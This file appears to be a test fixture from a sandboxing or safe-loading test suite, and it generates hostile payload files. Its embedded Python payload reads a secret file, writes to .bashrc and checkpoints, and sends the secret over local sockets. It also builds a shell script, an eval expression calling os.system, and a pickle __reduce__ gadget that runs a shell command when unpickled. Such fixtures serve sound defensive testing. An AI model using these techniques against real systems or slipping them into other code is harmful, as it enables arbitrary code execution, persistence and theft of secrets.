"""What the hostile files try to do: everything at once, in Python, in a shell and in a pickle."""

import pickle
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.hostile.place import Place

_PYTHON = """\
import os, socket, subprocess, sys

def attempt(call):
    try:
        call()
    except BaseException as error:
        return error

def tell(family, kind, address):
    with socket.socket(family, kind) as found:
        found.settimeout(2)
        found.connect(address)
        found.send(mark + secret)

mark = b"EXECU" + b"TED-%d-" % (6 * 7) + b"{nonce}"
secret = b""
def take():
    global secret
    secret = open({secret!r}, "rb").read()
def write(path):
    with open(path, "a") as file:
        file.write("spoiled")
attempt(take)
for number in (1, 2):
    attempt(lambda: os.write(number, mark + secret + b"\\n"))
attempt(lambda: subprocess.Popen(["sleep", "{sleeping}"], stdin=-3, stdout=-3, stderr=-3,
                                 start_new_session=True))
for path in {paths!r}:
    attempt(lambda: write(path))
attempt(lambda: os.chmod({canary!r}, 0o777))
attempt(lambda: os.rename({outside!r}, {outside!r} + ".moved"))
attempt(lambda: tell(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {number})))
attempt(lambda: tell(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {number})))
attempt(lambda: tell(socket.AF_UNIX, socket.SOCK_STREAM, {unix!r}))
attempt(lambda: tell(socket.AF_UNIX, socket.SOCK_STREAM, "\\0hostile-{nonce}"))
def netlink():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as found:
        found.bind((0, 0))
        os.write(2, b"NETLINK-" + mark)
attempt(netlink)
"""


def files(place: "Place") -> dict[str, bytes]:
    """Payloads by their file names; to open one is to be about to run it."""
    return {
        "payload.sh": _shell(place).encode(),
        "payload.py": python(place).encode(),
        "payload.so": b"\x7fELF no library, but whoever opens it meant to load one\n",
        "payload.pt": pickled(shell(place)),
    }


def python(place: "Place") -> str:
    """A module that does all harm that there is, each on its own, and never fails."""
    paths = [place.checkpoint, place.fresh, place.home / ".bashrc", place.temp / "left",
             place.temp / "canary"]  # fmt: skip
    return _PYTHON.format(
        nonce=place.nonce, secret=str(place.secret), sleeping=place.sleeping,
        paths=[str(path) for path in paths], canary=str(place.project / "canary.txt"),
        outside=str(place.root / "outside.txt"), number=place.number, unix=str(place.unix),
    )  # fmt: skip


def _shell(place: "Place") -> str:
    said = f'"EXECU""TED-$((6*7))-{place.nonce}"'
    return (
        f"#!/bin/sh\necho {said}\necho {said} >&2\ntouch '{place.fresh}'\n"
        f"exec '{place.python}' -S -E '{place.bait / 'payload.py'}'\n"
    )


def shell(place: "Place") -> str:
    """A command for ``os.system``."""
    return f"sh {place.bait / 'payload.sh'}"


def expression(place: "Place") -> str:
    """A Python expression for ``eval``."""
    return f"__import__('os').system('{shell(place)}')"


def leaving() -> str:
    """A Python expression whose run shows although nothing can be written: the process ends."""
    return "__import__('os')._exit(213)"


class _Gadget:
    def __init__(self, function: object, arguments: tuple[object, ...]) -> None:
        self.reduced = function, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.reduced


def gadget(function: object, *arguments: object) -> object:
    """What is unpickled by a call of the function."""
    return _Gadget(function, arguments)


def pickled(command: str, protocol: int = 2) -> bytes:
    """A pickle that has a shell run the command."""
    import os

    return pickle.dumps(gadget(os.system, command), protocol)
